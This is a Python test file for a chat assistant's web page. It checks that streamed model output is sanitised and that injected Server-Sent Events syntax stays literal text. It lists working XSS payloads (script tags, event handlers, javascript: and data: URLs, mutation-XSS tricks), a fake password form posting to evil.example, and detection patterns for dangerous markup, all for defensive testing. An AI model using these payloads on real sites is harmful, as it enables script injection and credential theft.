"""Model output is untrusted: whatever the model says reaches the page as the text it is.

The scripted engine sends chosen tokens (``text='<JSON list>'`` in its directive): markup that
would run script if it were rendered as it came, and Server-Sent Events syntax that would forge
or end events if it were written onto the wire as it came. In headless Chromium, nothing runs and
no dangerous markup survives in the rendered answer, checked once with the page's
Content-Security-Policy turned off (the sanitiser alone) and once with it on; over raw HTTP,
every token arrives as one event whose data is one line of JSON that decodes to exactly that
token.
"""

from collections.abc import Callable

import pytest
from playwright.sync_api import Locator, Page, expect

from assistant.models import Message
from tests.assistant.test_fuzz import directive, eventually, stream_answer
from tests.frontend.test_chat_page import ask as ask_question
from tests.support import ChatClient

pytestmark = pytest.mark.django_db(transaction=True)

ANSWERS = "#messages .message.assistant"
SANITISER = "/static/vendor/dompurify/purify.es.mjs"
STREAM_URLS = ("/api/chat/stream/direct", "/api/chat/stream/django")

#: Markup that runs script when rendered unsanitised; each payload sets ``window.__pwned``.
SCRIPT_TOKENS = [
    "Here you go. ",
    "<b>bold stays</b>",
    "\n\n**markdown** still renders\n\n",
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=2">',
    " [click](javascript:window.__pwned=3) ",
    '<a href="javascript:window.__pwned=4">a link</a>',
    '<svg onload="window.__pwned=5"><circle r="1"/></svg>',
    '<iframe srcdoc="<script>parent.__pwned=6</script>"></iframe>',
    "\n\n",
    '<div onmouseover="window.__pwned=7">**bold** inside raw HTML</div>',
    "\n\n",
    "[mixed case](JaVaScRiPt:window.__pwned=8) ",
    '<a href="&#106;avascript:window.__pwned=9">entity-encoded scheme</a> ',
    '![image](x" onerror="window.__pwned=10) ',
    '<details open ontoggle="window.__pwned=11"><summary>s</summary></details>',
    '<form action="javascript:window.__pwned=12"><button>go</button></form>',
    '<object data="javascript:window.__pwned=15"></object>',
    '<embed src="javascript:window.__pwned=16">',
    '<input autofocus onfocus="window.__pwned=17">',
    '<video><source onerror="window.__pwned=18"></video>',
    '<a href="data:text/html,<script>parent.__pwned=19</script>">data URL</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=20">',
    '<base href="javascript:window.__pwned=21//">',
    # A tag split across tokens, as a model may well produce it.
    "<scr",
    "ipt>window.__pwned=22</scr",
    "ipt>",
    "<img src=x on",
    'error="window.__pwned=23">',
    "\n\n[a reference][r]\n\n[r]: javascript:window.__pwned=24\n\n",
    # Last: unclosed elements that swallow whatever follows them.
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=14>">',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=13">',
]

#: Server-Sent Events syntax inside tokens: it must arrive as literal text, one token each.
SSE_TOKENS = [
    "Before",
    '\n\ndata: {"text":"INJECTED"}\n\n',
    " middle",
    "\r",
    "event: done\n",
    ": comment",
    "\r\n",
    "id: 99\nretry: 1\n\n",
    "data:",
    "\n\n\n",
    " after.",
]

DANGEROUS_IN_BUBBLE = """(el) => {
    const found = [];
    const scheme = /^[\\s\\u0000-\\u001f]*(javascript|vbscript|data:text\\/html)/i;
    const banned = ['SCRIPT', 'IFRAME', 'FRAME', 'OBJECT', 'EMBED', 'META', 'BASE', 'LINK',
                    'NOSCRIPT'];
    for (const node of el.querySelectorAll('*')) {
        if (banned.includes(node.tagName.toUpperCase())) found.push(node.outerHTML);
        for (const a of node.attributes) {
            const name = a.name.toLowerCase();
            if (name.startsWith('on') || name === 'srcdoc' || scheme.test(a.value)) {
                found.push(`${node.tagName} ${a.name}=${a.value}`);
            }
        }
        for (const prop of ['href', 'src', 'action', 'formAction', 'data']) {
            const value = node[prop];
            if (typeof value === 'string' && /^(javascript|vbscript):/i.test(value)) {
                found.push(`${node.tagName}.${prop}=${value}`);
            }
        }
    }
    return found;
}"""

# Records, for each answer bubble, what it showed while streaming: its text and anything
# dangerous in it, each time the page changed it (the answer is rendered as markdown as it
# streams), and whether streaming ended. Installed from the test, so the page's own code is
# unchanged.
RECORD_STREAMING = (
    """() => {
    const dangerous = """
    + DANGEROUS_IN_BUBBLE
    + """;
    window.__answers = [];
    const byBubble = new Map();
    const messages = document.getElementById('messages');
    new MutationObserver((records) => {
        const changed = new Set();
        for (const r of records) {
            const bubble = r.target.closest && r.target.closest('.message.assistant');
            if (!bubble) continue;
            if (!byBubble.has(bubble)) {
                const entry = {texts: [], found: [], ended: false};
                byBubble.set(bubble, entry);
                window.__answers.push(entry);
            }
            const entry = byBubble.get(bubble);
            if (r.type === 'attributes' && (r.oldValue || '').split(' ').includes('streaming')
                && !bubble.classList.contains('streaming')) {
                entry.ended = true;
            } else if (!entry.ended) {
                changed.add(bubble);
            }
        }
        for (const bubble of changed) {
            const entry = byBubble.get(bubble);
            const body = bubble.querySelector('.body');
            if (body.textContent) entry.texts.push(body.textContent);
            entry.found.push(...dangerous(bubble));
        }
    }).observe(messages, {
        childList: true, subtree: true, characterData: true, attributes: true,
        attributeFilter: ['class'], attributeOldValue: true,
    });
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
        window.__violations.push({directive: e.violatedDirective, source: e.sourceFile});
    });
}"""
)


def ask(page: Page, question: str) -> Locator:
    """Send ``question`` as a student would and return its answer bubble, once finished."""
    before = page.locator(ANSWERS).count()
    answer = ask_question(page, question)
    page.wait_for_function(
        "(i) => window.__answers[i] && window.__answers[i].ended", arg=before, timeout=15_000
    )
    return answer


def streamed(page: Page, index: int) -> list[str]:
    """What the ``index``-th answer showed, change after change, while it streamed."""
    return page.evaluate("(i) => window.__answers[i].texts", index)


def found_while_streaming(page: Page, index: int) -> list[str]:
    """Anything dangerous the ``index``-th answer held at any moment while it streamed."""
    return page.evaluate("(i) => window.__answers[i].found", index)


def open_recording(open_chat: Callable[..., Page], *, bypass_csp: bool) -> Page:
    page = open_chat(bypass_csp=bypass_csp)
    page.evaluate(RECORD_STREAMING)
    return page


def assert_inert(page: Page, answer: Locator, start_url: str) -> None:
    """Nothing ran, nothing dangerous is in the answer, the page did not navigate."""
    page.wait_for_function(
        "(el) => [...el.querySelectorAll('img')].every((img) => img.complete)"
        " && document.readyState === 'complete'",
        arg=answer.element_handle(),
    )
    assert page.evaluate("() => typeof window.__pwned") == "undefined"
    assert answer.evaluate(DANGEROUS_IN_BUBBLE) == []
    assert page.url == start_url


@pytest.mark.browser
@pytest.mark.parametrize("bypass_csp", [True, False], ids=["sanitiser-alone", "with-csp"])
def test_script_in_the_answer_never_runs(open_chat: Callable[..., Page], bypass_csp: bool) -> None:
    """Script-bearing markup, whole or split across tokens, is rendered sanitised at every
    moment while it streams and once it is done: no handler, no script URL, nothing runs, live
    or reopened from the history. With the CSP on, the sanitised answer does not even try
    anything the policy would have to block."""
    page = open_recording(open_chat, bypass_csp=bypass_csp)
    start_url = page.url
    answer = ask(page, directive(SCRIPT_TOKENS, itl_ms=20))

    shown = streamed(page, 0)
    assert len(shown) >= 2, shown  # it appeared progressively
    assert shown[0].startswith("Here you go.")
    # Markdown rendered before the answer was done: the bold markers are gone.
    assert any("markdown still renders" in t and "**markdown**" not in t for t in shown), shown
    assert found_while_streaming(page, 0) == []
    expect(answer.locator(".note")).to_have_count(0)
    expect(page.locator("#status")).to_have_text("")
    body = answer.locator(".body")
    # Markdown is still rendered; raw HTML markdown would not produce keeps only its text.
    expect(body.locator("b")).to_have_count(0)
    expect(body).to_contain_text("bold stays")
    expect(body.locator("strong")).to_have_text("markdown")
    expect(body).to_contain_text("Here you go.")
    assert_inert(page, answer, start_url)
    if not bypass_csp:
        # DOMPurify parses the markup in an inert document, where Chromium reports the inline
        # handlers it would refuse; nothing in the page itself needed the policy.
        violations = page.evaluate("() => window.__violations")
        assert all(v["source"].endswith(SANITISER) for v in violations), violations

    page.reload()
    page.wait_for_selector("body[data-ready='1']", state="attached")
    page.locator("#conversations button.open").first.click()
    stored = page.locator(ANSWERS).first
    expect(stored.locator(".body")).to_contain_text("bold stays")
    expect(stored.locator(".body strong")).to_have_text("markdown")
    assert_inert(page, stored, start_url)


#: An answer drawing UI of its own: a form asking for a password, an overlay, outside images.
FAKE_UI_TOKENS = [
    "Your session has expired.\n\n",
    '<form action="https://evil.example/steal" method="post">',
    '<input name="password" type="password"><button>Log in again</button></form>',
    "\n\n",
    '<div style="position:fixed;inset:0;background:white" class="message user">cover</div>',
    "\n\n![tracker](https://evil.example/pixel.png)\n\n",
    '<img src="https://evil.example/raw.png" alt="raw">',
    "\n\nSee [the lesson](https://example.org/lesson) and ",
    '<a href="https://evil.example/x" style="color:red" target="_self">this</a>.\n\n',
    '<iframe src="https://evil.example/frame"></iframe><select><option>a</option></select>',
    "\n\n- [ ] a task list\n\n**bold** and `code`\n",
]

#: What must not be in a rendered answer: controls, frames, media, and styling of any kind.
DRAWN_UI = """(el) => [...el.querySelectorAll('*')].flatMap((node) => [
    ...(['FORM', 'INPUT', 'BUTTON', 'SELECT', 'TEXTAREA', 'IFRAME', 'IMG', 'STYLE', 'DIV', 'SVG',
         'VIDEO', 'AUDIO'].includes(node.tagName.toUpperCase()) ? [node.outerHTML] : []),
    ...['style', 'class', 'id'].filter((a) => node.hasAttribute(a))
        .map((a) => `${node.tagName} ${a}=${node.getAttribute(a)}`),
])"""


@pytest.mark.browser
def test_the_answer_cannot_draw_its_own_ui(open_chat: Callable[..., Page]) -> None:
    """Only what markdown makes survives: no form, input, button, frame, image or style. An
    image is a link to it, nothing is fetched from elsewhere, and every link opens apart,
    with no referrer and no hold on this page. Checked with the CSP off: the sanitiser alone."""
    page = open_recording(open_chat, bypass_csp=True)
    fetched: list[str] = []
    page.context.route(
        "https://evil.example/**", lambda route: (fetched.append(route.request.url), route.abort())
    )
    answer = ask(page, directive(FAKE_UI_TOKENS, itl_ms=2))
    body = answer.locator(".body")
    expect(body.locator("strong")).to_have_text("bold")
    assert body.evaluate(DRAWN_UI) == []
    links = body.locator("a")
    hrefs = [links.nth(i).get_attribute("href") for i in range(links.count())]
    assert hrefs == [
        "https://evil.example/pixel.png",
        "https://example.org/lesson",
        "https://evil.example/x",
    ]
    expect(links.first).to_have_text("tracker")
    for i in range(links.count()):
        assert links.nth(i).get_attribute("rel") == "noopener noreferrer nofollow"
        assert links.nth(i).get_attribute("target") == "_blank"
    expect(body).to_contain_text("Log in again")  # its words, as text
    page.wait_for_load_state("networkidle")
    assert fetched == []


@pytest.mark.browser
def test_event_stream_syntax_in_the_answer_is_shown_as_text(
    open_chat: Callable[..., Page],
) -> None:
    """Tokens that look like SSE fields, comments and frame ends arrive one event each, as
    the literal text sent: nothing extra (no "INJECTED" token), nothing lost, and the answer
    ends normally rather than at a forged ``event: done``."""
    page = open_recording(open_chat, bypass_csp=True)
    answer = ask(page, directive(SSE_TOKENS, itl_ms=20))

    shown = streamed(page, 0)
    # It appeared progressively (tokens that arrive together are shown together).
    assert len(shown) >= 2, shown
    # Each moment showed the tokens so far as text: "INJECTED" is never a token of its own.
    assert all("INJECTED" not in t or 'data: {"text":"INJECTED"}' in t for t in shown), shown
    expect(answer.locator(".note")).to_have_count(0)
    expect(page.locator("#status")).to_have_text("")
    # Rendered as markdown: the forged fields are paragraphs of text, in order.
    text = answer.locator(".body").inner_text()
    for part in ('data: {"text":"INJECTED"}', "event: done", ": comment", "id: 99", "after."):
        assert part in text, (part, text)
    assert text.index("Before") < text.index("INJECTED") < text.index("after.")


@pytest.mark.parametrize("url", STREAM_URLS)
@pytest.mark.parametrize(
    "tokens", [SCRIPT_TOKENS, SSE_TOKENS], ids=["script-markup", "event-stream-syntax"]
)
def test_each_token_is_one_line_of_json_on_the_wire(
    chat_client: ChatClient, url: str, tokens: list[str]
) -> None:
    """On both serving paths, each token event's data is a single line of JSON that decodes
    to exactly the token sent, and the stream ends with the one real ``done``."""
    response = chat_client.raw({"message": directive(tokens)}, path=url)
    assert response.status == 200
    body = response.body()
    answer = stream_answer(body)
    assert answer.tokens == tokens
    assert answer.end == "done" and answer.end_data["tokens"] == len(tokens)
    assert body.count(b"\nevent: done\n") == 1


@pytest.mark.parametrize("url", STREAM_URLS)
def test_a_lone_surrogate_from_the_model_does_not_end_the_answer(
    chat_client: ChatClient, url: str
) -> None:
    """A token holding half of a surrogate pair (a model or upstream server can send one as a
    JSON escape) cannot be written as UTF-8; it still goes out, escaped or replaced, the
    tokens around it and the ``done`` follow, and the answer is saved."""
    tokens = ["Half ", chr(0xD800), " a pair."]
    response = chat_client.raw({"message": directive(tokens)}, path=url)
    answer = stream_answer(response.body())
    assert answer.end == "done", answer.end_data
    assert answer.tokens[0] == "Half " and answer.tokens[2] == " a pair."
    assert answer.tokens[1] in {chr(0xD800), "\N{REPLACEMENT CHARACTER}"}
    assert eventually(lambda: Message.objects.filter(id=answer.meta["message"]).exists())
